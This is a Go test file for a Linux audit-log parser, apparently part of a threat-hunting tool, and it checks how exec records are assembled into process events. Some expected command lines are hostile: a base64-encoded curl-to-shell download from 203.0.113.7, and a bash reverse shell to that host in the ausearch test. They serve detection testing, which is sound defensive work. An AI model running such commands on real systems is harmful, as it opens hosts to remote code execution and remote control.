package auditlog

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/exechunt/exechunt/tables/event"
	"github.com/exechunt/exechunt/tables/source"
)

var update = flag.Bool("update", false, "rewrite the .golden files of testdata/ from the current output")

// readAll reads text with a fresh assembler and returns the normalised events and
// the problems.
func readAll(t *testing.T, text string) ([]event.Event, []string, source.Stats) {
	t.Helper()
	var evs []event.Event
	var problems []string
	opt := &source.Options{Problem: func(p *source.Problem) { problems = append(problems, p.Error()) }}
	st, err := Read(context.Background(), strings.NewReader(text), "audit.log", opt, func(r *event.Record) error {
		evs = append(evs, event.Normalize(r, false))
		return nil
	})
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	return evs, problems, st
}

func fixture(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestShapes(t *testing.T) {
	evs, problems, st := readAll(t, fixture(t, "shapes.log"))
	if len(evs) != 2 || len(problems) != 0 {
		t.Fatalf("%d events, problems %q", len(evs), problems)
	}
	sh := evs[0]
	p := sh.ProcessCreation
	if sh.Kind != event.KindProcessCreation || sh.Provider != event.ProviderLinuxAudit || sh.EventRecordID != 5001 ||
		sh.Time.UnixMilli() != 1765100000101 || sh.Locator != "line 1" || sh.Format != "audit" {
		t.Errorf("event %+v", sh)
	}
	// a2 is hex-encoded (it holds spaces and a pipe): decoded, joined with spaces.
	wantCmd := "sh -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoCg== | base64 -d | sh"
	if p.PID != 4242 || p.ParentPID != 4100 || p.Image != "/usr/bin/dash" || p.Cmdline != wantCmd ||
		p.CurrentDirectory != "/home/alice" || p.User != "1000" || p.LoginUser != "1000" || p.LogonID != "0x3e8" ||
		p.TTY != "pts1" || p.TerminalSessionID != "7" || p.RuleName != "exec" || p.Failed {
		t.Errorf("sh -c: %+v", p)
	}
	// a2 was split into a2[0] and a2[1] over two EXECVE records; the CWD is hex.
	py := evs[1].ProcessCreation
	wantScript := "import os;" + strings.Repeat("x=1;", 30) + `os.system("id")`
	if py.Cmdline != "python3 -c "+wantScript || py.CurrentDirectory != "/home/alice/my docs" || py.ParentPID != 4242 {
		t.Errorf("python3: cmdline %q cwd %q", py.Cmdline, py.CurrentDirectory)
	}
	// 16 records: 12 of the two execs, 4 of a login and a connect().
	if st.Records != 16 || st.Emitted != 2 || st.Skipped != 4 || st.BadLines != 0 {
		t.Errorf("stats %+v", st)
	}
}

func TestInterleavedEvents(t *testing.T) {
	evs, problems, _ := readAll(t, fixture(t, "interleaved.log"))
	if len(evs) != 2 || len(problems) != 0 {
		t.Fatalf("%d events, problems %q", len(evs), problems)
	}
	// 7002 completes first (its PROCTITLE comes first).
	sh, cron := evs[0].ProcessCreation, evs[1].ProcessCreation
	if evs[0].EventRecordID != 7002 || sh.Cmdline != "/bin/sh -c cd / && run-parts --report /etc/cron.hourly" ||
		sh.CurrentDirectory != "/root" || sh.PID != 301 || sh.User != "root" || sh.LoginUser != "root" || sh.TTY != "" {
		t.Errorf("sh: %+v", sh)
	}
	if evs[1].EventRecordID != 7001 || cron.Cmdline != "/usr/sbin/cron -f" || cron.CurrentDirectory != "/" || cron.LoginUser != "" ||
		cron.LogonID != "" || cron.TerminalSessionID != "" {
		t.Errorf("cron: %+v", cron)
	}
}

func TestMissingProctitle(t *testing.T) {
	evs, problems, _ := readAll(t, fixture(t, "missing_proctitle.log"))
	// uname's EXECVE (its SYSCALL lies before the start of the file) is kept and
	// reported; id and whoami end with the file.
	if len(evs) != 3 {
		t.Fatalf("%d events: %+v", len(evs), evs)
	}
	byPID := map[string]*event.ProcessCreation{}
	for _, e := range evs {
		byPID[e.ProcessCreation.Cmdline] = e.ProcessCreation
	}
	if id := byPID["id"]; id == nil || id.PID != 501 || id.Image != "/usr/bin/id" || id.CurrentDirectory != "/tmp" {
		t.Errorf("id: %+v", id)
	}
	if w := byPID["whoami"]; w == nil || w.PID != 502 {
		t.Errorf("whoami: %+v", w)
	}
	if u := byPID["uname -a"]; u == nil || u.PID != 0 {
		t.Errorf("uname: %+v", u)
	}
	if len(problems) != 1 || !strings.Contains(problems[0], "audit(1765100199.990:7999) has no SYSCALL record") ||
		!strings.Contains(problems[0], "line 2") {
		t.Errorf("problems %q", problems)
	}
}

func TestFailedExecve(t *testing.T) {
	evs, problems, _ := readAll(t, fixture(t, "failed.log"))
	if len(evs) != 2 || len(problems) != 0 {
		t.Fatalf("%d events, problems %q", len(evs), problems)
	}
	// ENOENT: no EXECVE; exe and PROCTITLE are the caller's (bash): the image is the
	// file it tried, resolved against the cwd, and the caller's title is not the
	// command line.
	a := evs[0].ProcessCreation
	if !a.Failed || a.Image != "/dev/shm/.x" || a.Cmdline != "" || a.PID != 601 {
		t.Errorf("ENOENT: %+v", a)
	}
	b := evs[1].ProcessCreation
	if !b.Failed || b.Image != "/tmp/.cache/kworker" || b.Cmdline != "/tmp/.cache/kworker -d" {
		t.Errorf("EACCES (execveat): %+v", b)
	}
}

func TestAusearchEnrichedAndDamaged(t *testing.T) {
	evs, problems, st := readAll(t, fixture(t, "ausearch.log"))
	if len(evs) != 2 {
		t.Fatalf("%d events", len(evs))
	}
	rev := evs[0]
	p := rev.ProcessCreation
	if rev.Computer != "web01" || p.User != "www-data" || p.LoginUser != "" || p.Cmdline != "bash -c bash -i >& /dev/tcp/203.0.113.7/443 0>&1" ||
		p.CurrentDirectory != "/var/www/html" {
		t.Errorf("reverse shell: computer %q %+v", rev.Computer, p)
	}
	if !evs[1].Truncated || evs[1].ProcessCreation.Cmdline != "x y" {
		t.Errorf("argc beyond the bound: truncated %v cmdline %q", evs[1].Truncated, evs[1].ProcessCreation.Cmdline)
	}
	want := []string{"line 9 (offset", "not an audit record", "line 10 (offset", "bad audit(", "audit(1765098000.200:4002): arguments missing"}
	joined := strings.Join(problems, "\n")
	for _, w := range want {
		if !strings.Contains(joined, w) {
			t.Errorf("problems lack %q:\n%s", w, joined)
		}
	}
	if st.BadLines != 2 || st.Problems != 3 {
		t.Errorf("stats %+v", st)
	}
}

// TestTailAcrossReads: an event whose records arrive in two reads is joined.
func TestTailAcrossReads(t *testing.T) {
	text := fixture(t, "interleaved.log")
	lines := strings.SplitAfter(text, "\n")
	var a Assembler
	var got []string
	emit := func(r *event.Record) error {
		got = append(got, event.Normalize(r, false).ProcessCreation.Cmdline)
		return nil
	}
	opt := &source.Options{}
	if _, err := a.Read(context.Background(), strings.NewReader(strings.Join(lines[:4], "")), "audit.log", opt, emit, false); err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 || a.Pending() != 2 {
		t.Fatalf("after the first read: %q, %d pending", got, a.Pending())
	}
	opt.BaseLine = 4
	if _, err := a.Read(context.Background(), strings.NewReader(strings.Join(lines[4:], "")), "audit.log", opt, emit, false); err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[1] != "/usr/sbin/cron -f" || a.Pending() != 0 {
		t.Errorf("after the second read: %q, %d pending", got, a.Pending())
	}
}

// TestBoundedPending: events that never complete do not pile up.
func TestBoundedPending(t *testing.T) {
	var b strings.Builder
	for i := range 3 * MaxInFlight {
		// Each event gets a SYSCALL and nothing else, and an unrelated record of
		// another event follows, so none completes by itself.
		fmt.Fprintf(&b, "type=SYSCALL msg=audit(1765100000.000:%d): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=%d uid=0 auid=0 ses=1 tty=(none) comm=\"x\" exe=\"/x\" key=(null)\n", i, i+2)
		fmt.Fprintf(&b, "type=EXECVE msg=audit(1765100000.000:%d): argc=1 a0=\"x\"\n", i)
	}
	var a Assembler
	peak, n := 0, 0
	_, err := a.Read(context.Background(), strings.NewReader(b.String()), "audit.log", nil, func(*event.Record) error {
		peak = max(peak, a.Pending())
		n++
		return nil
	}, false)
	if err != nil {
		t.Fatal(err)
	}
	if peak > MaxInFlight || a.Pending() > MaxInFlight {
		t.Errorf("pending reached %d (limit %d)", max(peak, a.Pending()), MaxInFlight)
	}
	if n+a.Pending() != 3*MaxInFlight {
		t.Errorf("%d emitted + %d pending, want %d", n, a.Pending(), 3*MaxInFlight)
	}
}

func TestWantAndWindow(t *testing.T) {
	text := fixture(t, "shapes.log")
	opt := &source.Options{Want: func(p, c string, id uint32) bool { return false }}
	st, err := Read(context.Background(), strings.NewReader(text), "a", opt, func(*event.Record) error {
		t.Fatal("emitted an unwanted event")
		return nil
	})
	if err != nil || st.Emitted != 0 || st.Skipped != st.Records {
		t.Errorf("unwanted: %+v %v", st, err)
	}
	evs, _, _ := readAll(t, text)
	opt = &source.Options{Since: evs[1].Time}
	n := 0
	if _, err := Read(context.Background(), strings.NewReader(text), "a", opt, func(*event.Record) error { n++; return nil }); err != nil || n != 1 {
		t.Errorf("window: %d events, %v", n, err)
	}
}

func TestSniff(t *testing.T) {
	for in, want := range map[string]bool{
		fixture(t, "shapes.log"):                                true,
		fixture(t, "ausearch.log"):                              true,
		"node=h type=SYSCALL msg=audit(1.000:1): arch=c000003e": true,
		"type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 " + strings.Repeat("x", 100): true,
		"May 11 18:10:20 host sysmon: <Event>":                                                  false,
		`{"type":"SYSCALL"}`:                                                                    false,
		"":                                                                                      false,
	} {
		if got := Sniff([]byte(in)); got != want {
			t.Errorf("Sniff(%.40q) = %v", in, got)
		}
	}
}

// TestGolden renders each fixture in testdata/ (events and problems) against its
// .golden file; `go test -update` accepts a deliberate change.
func TestGolden(t *testing.T) {
	inputs, _ := filepath.Glob("testdata/*.log")
	if len(inputs) < 5 {
		t.Fatalf("only %d fixtures", len(inputs))
	}
	for _, in := range inputs {
		t.Run(filepath.Base(in), func(t *testing.T) {
			var buf bytes.Buffer
			enc := json.NewEncoder(&buf)
			enc.SetEscapeHTML(false)
			opt := &source.Options{Problem: func(p *source.Problem) { fmt.Fprintf(&buf, "# problem: %s\n", p.Error()) }}
			text := fixture(t, filepath.Base(in))
			st, err := Read(context.Background(), strings.NewReader(text), filepath.Base(in), opt, func(r *event.Record) error {
				return enc.Encode(event.Normalize(r, false))
			})
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&buf, "# stats: records=%d emitted=%d skipped=%d bad_lines=%d problems=%d\n", st.Records, st.Emitted, st.Skipped, st.BadLines, st.Problems)
			golden := in + ".golden"
			if *update {
				if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (go test -update creates it)", err)
			}
			if !bytes.Equal(buf.Bytes(), want) {
				t.Errorf("differs from %s (go test -update accepts it):\n--- got\n%s\n--- want\n%s", golden, buf.Bytes(), want)
			}
		})
	}
}

// TestQueueBounded: a live stream's queue keeps the newest events within
// MaxQueuedBytes and counts those it dropped.
func TestQueueBounded(t *testing.T) {
	var q queue
	big := strings.Repeat("x", 64<<10)
	n := 2 * MaxQueuedBytes / len(big)
	for i := range n {
		rec := event.Record{Provider: event.ProviderLinuxAudit, EventID: event.EventIDAuditExec, RecordID: uint64(i),
			Data: event.MapFields{Values: map[string]string{"cmdline": big}}}
		q.push(&rec)
	}
	var kept []uint64
	dropped, err := q.drain(func(e *event.Event) { kept = append(kept, e.EventRecordID) })
	if err != nil || dropped == 0 || int(dropped)+len(kept) != n || kept[len(kept)-1] != uint64(n-1) {
		t.Fatalf("kept %d, dropped %d of %d (%v)", len(kept), dropped, n, err)
	}
	if again, _ := q.drain(func(*event.Event) {}); again != 0 {
		t.Errorf("dropped counted twice")
	}
}

// TestBoundedPendingBytes: many unfinished events with large arguments are finished
// early rather than held: the waiting arguments stay within MaxPendingBytes (plus the
// record being read).
func TestBoundedPendingBytes(t *testing.T) {
	big := strings.Repeat("41", 256<<10) // 256 KiB once decoded
	var b strings.Builder
	for i := range 64 {
		fmt.Fprintf(&b, "type=SYSCALL msg=audit(1765100000.000:%d): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=%d uid=0 auid=0 ses=1 tty=(none) comm=\"x\" exe=\"/x\" key=(null)\n", i, i+2)
		fmt.Fprintf(&b, "type=EXECVE msg=audit(1765100000.000:%d): argc=2 a0=\"x\" a1=%s\n", i, big)
	}
	var a Assembler
	peak, n := 0, 0
	_, err := a.Read(context.Background(), strings.NewReader(b.String()), "audit.log", nil, func(r *event.Record) error {
		peak = max(peak, a.bytes)
		if v, _ := r.Data.Get("cmdline"); len(v) != 2+256<<10 {
			t.Errorf("cmdline of %d bytes", len(v))
		}
		n++
		return nil
	}, true)
	if err != nil || n != 64 {
		t.Fatalf("%d events, %v", n, err)
	}
	if peak > MaxPendingBytes+MaxArgBytes {
		t.Errorf("waiting arguments reached %d bytes (bound %d)", peak, MaxPendingBytes+MaxArgBytes)
	}
	if a.bytes != 0 {
		t.Errorf("%d bytes still counted after the end", a.bytes)
	}
}
